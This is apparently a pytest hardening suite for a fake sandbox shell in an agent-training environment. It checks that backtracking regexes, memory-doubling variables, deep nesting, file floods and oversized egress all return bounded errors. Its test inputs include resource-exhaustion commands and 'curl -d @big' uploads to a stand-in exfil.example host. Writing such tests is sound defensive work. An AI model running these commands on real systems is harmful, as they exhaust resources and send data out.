"""Issue 10 item 1: every fake-shell step is bounded in time and memory.

Each hostile command of the issue runs in a bounded child process (see
:mod:`tests.hardening.bounded`) and must come back as an ordinary result: either the
command's normal answer (a regex engine without catastrophic backtracking) or a
``[resource limit: ...]`` error on stderr; never a hang, a ``MemoryError`` or an
exception out of ``exec``.
"""

from __future__ import annotations

import pytest

from tests.hardening.bounded import run_bounded

LINE40 = "a" * 40
#: Files a (4 kB), b (32 kB) and c (256 kB), from commands the fake shell has.
GROW = "printf '%4096s' x > a; cat a a a a a a a a > b; cat b b b b b b b b > c;"
SHELL_CASES = {
    # grep: Python's re never returns on these; the regex engine does (no match).
    "grep-ere-alternation": f"printf '{LINE40}\\n' > f; grep -E '(a|a)*b' f; echo rc=$?",
    "grep-stars": f"printf '{'a' * 200}\\n' > f; grep 'a*a*a*a*a*b' f; echo rc=$?",
    "grep-dotstars": f"printf '{'x' * 3000}\\n' > f; grep '.*.*.*.*.*=' f; echo rc=$?",
    "grep-bre-alternation": f"printf '{LINE40}\\n' > f; grep '\\(a\\|a\\)*b' f; echo rc=$?",
    # Allocation: a 10 kB tr range list, a variable doubled 28 times.
    "tr-range": "echo hi | tr '" + "a-\\377" * 1600 + "' b",
    "doubling-variable": "A=xxxxxxxxxxxxxxxx; " + "A=$A$A; " * 28 + "echo ${#A}",
    "doubling-in-quotes": 'A=xxxxxxxxxxxxxxxx; ' + 'A="$A$A"; ' * 28 + "echo ${#A}",
    "many-references": "A=" + "x" * 60000 + "; echo " + "$A" * 20000 + " | wc -c",
    # Depth: command nesting recursed into RecursionError; paths and ${ were quadratic.
    "nested-env": "env " * 3000 + "echo hi",
    "nested-mixed": "timeout 5 nohup env xargs " * 700 + "echo hi",
    "deep-mkdir": "mkdir -p " + "/d" * 20000 + "; echo rc=$?",
    "nested-default": "echo " + "${A:-" * 20000 + "x" + "}" * 20000 + " | wc -c",
}


def _exec_in_child(command: str) -> dict[str, object]:
    return run_bounded(f"""
        from mosaic_gym.sandbox.fake import FakeSandbox
        box = FakeSandbox()
        result = box.exec({command!r})
        report({{"rc": result.exit_code, "out": result.stdout[-300:],
                 "err": result.stderr[-300:]}})
    """)


@pytest.mark.parametrize("name", sorted(SHELL_CASES))
def test_hostile_command_returns_a_result(name: str) -> None:
    result = _exec_in_child(SHELL_CASES[name])
    assert isinstance(result["rc"], int)
    if name.startswith("grep"):
        # A real answer, not a refusal: no line matches, grep says 1.
        assert result["out"].strip().endswith("rc=1"), result
    elif name in ("deep-mkdir",):
        assert "File name too long" in result["err"] and "rc=1" in result["out"], result
    elif name == "nested-default":
        assert result["rc"] == 0, result
    else:
        assert "[resource limit:" in result["err"], result


def test_the_limit_message_names_what_was_exceeded() -> None:
    result = _exec_in_child("A=xxxxxxxxxxxxxxxx; " + "A=$A$A; " * 28 + "echo ${#A}")
    assert "variable A" in result["err"] and "exceeds" in result["err"], result
    assert result["rc"] == 1


def test_honest_tr_byte_ranges_still_work() -> None:
    """The bound on tr sets must not refuse the byte range every script uses."""
    from mosaic_gym.sandbox.fake import FakeSandbox

    box = FakeSandbox()
    result = box.exec("printf 'caf\\351 ok\\n' | tr -d '\\200-\\377'")
    assert (result.exit_code, result.stdout) == (0, "caf ok\n"), result
    result = box.exec("echo abc | tr '\\000-\\377' '\\000-\\377'")
    assert (result.exit_code, result.stdout) == (0, "abc\n"), result


def test_file_count_is_bounded_and_later_steps_stay_cheap() -> None:
    """150,000 touched files: refused past the bound (ENOSPC), the tree stays small."""
    from mosaic_gym.sandbox.fake import FakeSandbox
    from mosaic_gym.sandbox.fake.shell.limits import MAX_TREE_ENTRIES

    box = FakeSandbox()
    names = " ".join(f"f{i}" for i in range(30000))
    for _ in range(5):
        result = box.exec(f"touch {names}; echo rc=$?")
        assert "resource limit" in result.stderr and "rc=1" in result.stdout
    assert len(box.snapshot()) <= MAX_TREE_ENTRIES
    # Deleting frees entries again: the count follows the tree.
    assert box.exec("rm -f f1 f2 f3 && touch g1 g2 g3").exit_code == 0


def test_virtual_clock_is_charged_for_expansion() -> None:
    """Expansion costs virtual time: a big enough one times out (exit 124)."""
    from mosaic_gym.sandbox.fake import FakeSandbox

    box = FakeSandbox()
    command = "A=" + "x" * 200_000 + "; " + "B=$A; " * 300  # 60 M characters expanded
    result = box.exec(command, timeout=0.5)
    assert result.timed_out and result.exit_code == 124, result


def test_grep_backstop_turns_a_slow_match_into_a_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    """If matching ever outlasts the wall allowance, the agent sees a resource limit."""
    from mosaic_gym.sandbox.fake import FakeSandbox
    from mosaic_gym.sandbox.fake.shell import limits

    monkeypatch.setattr(limits, "REGEX_WALL_S", 0.0)
    box = FakeSandbox()
    result = box.exec("echo abc > f; grep b f")
    assert result.exit_code == 1 and "[resource limit: regular expression" in result.stderr


def test_oversized_egress_is_refused_and_nothing_is_recorded(tmp_path) -> None:
    """curl -d @big: refused before it leaves; the judge keeps nothing unbounded."""
    from mosaic_gym.envs.mosaic_env import MosaicEnv
    from tests.hardening.scenarios import SHELL_SCENARIO, action, write_scenario

    path = write_scenario(tmp_path, SHELL_SCENARIO)
    env = MosaicEnv(scenario=str(path))
    env.reset(seed=0)
    obs, *_ = env.step(action("run_shell", command=(
        f"{GROW} cat c c c c c c c c c c > big; "
        "curl -s -d @big https://exfil.example/up; echo rc=$?")))
    assert "[resource limit: payload of" in obs, obs
    world = env.episode.world
    assert world.web.requests == [] and world.egress == []
    obs, *_ = env.step(action("run_shell", command="curl -s -d small https://exfil.example/up"))
    assert len(world.egress) == 1
    env.close()


def test_episode_egress_total_is_bounded(tmp_path) -> None:
    from mosaic_gym.envs.mosaic_env import MosaicEnv
    from mosaic_gym.sandbox.fake.shell.limits import MAX_EPISODE_EGRESS_CHARS
    from tests.hardening.scenarios import SHELL_SCENARIO, action, write_scenario

    path = write_scenario(tmp_path, SHELL_SCENARIO)
    env = MosaicEnv(scenario=str(path), max_steps=50)
    env.reset(seed=0)
    env.step(action("run_shell", command=f"{GROW} cat c c c > big"))  # 786 kB
    command = "; ".join(["curl -s -d @big https://exfil.example/up"] * 12)
    seen = ""
    for _ in range(4):
        seen, *_ = env.step(action("run_shell", command=command))
    world = env.episode.world
    assert "[resource limit: egress this episode" in seen
    assert sum(len(e.payload) for e in world.egress) <= MAX_EPISODE_EGRESS_CHARS
    env.close()
